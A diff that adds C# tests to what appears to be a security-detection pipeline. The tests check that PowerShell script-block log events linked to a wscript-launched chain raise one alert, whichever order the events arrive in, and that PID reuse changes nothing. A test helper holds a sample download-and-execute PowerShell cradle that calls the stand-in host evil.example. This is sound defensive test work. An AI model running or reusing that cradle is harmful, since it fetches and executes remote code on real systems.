@@ -100,6 +100,48 @@ public sealed class LateFactTests
         Assert.Contains(alerts, static alert => alert.Contains("script-host", StringComparison.Ordinal) && !alert.Contains("upd.exe", StringComparison.Ordinal));
     }
 
+    [Theory]
+    [InlineData(Engine.Sqlite, 4104, true)]
+    [InlineData(Engine.Sqlite, 4104, false)]
+    [InlineData(Engine.Sqlite, 4103, true)]
+    [InlineData(Engine.Postgres, 4104, true)]
+    [InlineData(Engine.Postgres, 4103, false)]
+    public async Task Import_ScriptOfAChainsPowerShell_JudgesTheAlertAgain(Engine engine, int eventId, bool late)
+    {
+        const string Signal = "content-script-block";
+        var at = new DateTime(2026, 11, 18, 9, 30, 0, DateTimeKind.Utc);
+        var chain = Xml(
+            Started(at, 400, @"C:\Windows\System32\wscript.exe", @"wscript.exe //e:vbscript C:\Users\ada\Downloads\invoice.txt", 200, @"C:\Windows\explorer.exe"),
+            Started(at.AddSeconds(2), 500, @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"powershell.exe -File C:\Users\ada\Downloads\a.ps1", 400, @"C:\Windows\System32\wscript.exe"));
+        var script = Script(at.AddSeconds(3), eventId, 500);
+        await using var run = await PipelineRun.OfAsync(engine, late ? chain : script);
+        Assert.DoesNotContain(Signal, await run.SignalsAsync());
+
+        await run.ImportAsync(late ? script : chain);
+
+        var once = await run.PictureAsync();
+        Assert.Contains(Signal, Assert.Single(once.Alerts), StringComparison.Ordinal);
+        await run.ImportAsync(script);
+        (await run.PictureAsync()).AssertIs(once);
+        Assert.Equal(1, once.Scripts);
+    }
+
+    // The id belonged to another process by then.
+    [Fact]
+    public async Task Import_ScriptOfAnotherProcessWithTheId_ChangesNothing()
+    {
+        var at = new DateTime(2026, 11, 18, 9, 30, 0, DateTimeKind.Utc);
+        await using var run = await PipelineRun.OfAsync(Engine.Sqlite, Xml(
+            Started(at, 400, @"C:\Windows\System32\wscript.exe", @"wscript.exe //e:vbscript C:\Users\ada\Downloads\invoice.txt", 200, @"C:\Windows\explorer.exe"),
+            Started(at.AddSeconds(2), 500, @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", @"powershell.exe -File C:\Users\ada\Downloads\a.ps1", 400, @"C:\Windows\System32\wscript.exe"),
+            Started(at.AddSeconds(60), 500, @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe", 200, @"C:\Windows\explorer.exe")));
+        var before = (await run.PictureAsync()).Alerts;
+
+        await run.ImportAsync(Script(at.AddSeconds(61), 4104, 500));
+
+        Assert.Equal(before, (await run.PictureAsync()).Alerts);
+    }
+
     // A list names no process and no host: the alerts of every host that ran the file change.
     [Theory]
     [MemberData(nameof(Engines))]
@@ -122,6 +164,17 @@ public sealed class LateFactTests
     {
         await using var run = await PipelineRun.OfAsync(engine, Evtx(_records));
         return await run.PictureAsync();
+    }
+
+    private static byte[] Script(DateTime at, int eventId, int pid)
+    {
+        const string Text = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
+        var data = eventId == 4104
+            ? $"<Data Name='ScriptBlockId'>6f0f2c11-1111-4000-8001-000000000009</Data><Data Name='MessageNumber'>1</Data><Data Name='MessageTotal'>1</Data><Data Name='ScriptBlockText'>{Text}</Data>"
+            : $"<Data Name='ContextInfo'>Host ID = 1</Data><Data Name='Payload'>CommandInvocation(Invoke-Expression): {Text}</Data>";
+        return Encoding.UTF8.GetBytes(
+            $"<Event><System><Provider Name='Microsoft-Windows-PowerShell'/><EventID>{eventId}</EventID><TimeCreated SystemTime='{at:yyyy-MM-ddTHH:mm:ss.fff}Z'/>"
+            + $"<Execution ProcessID='{pid}'/><Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>ws9.example.test</Computer></System><EventData>{data}</EventData></Event>");
     }
 
     private static string Started(DateTime at, int pid, string image, string line, int parent, string parentImage) =>
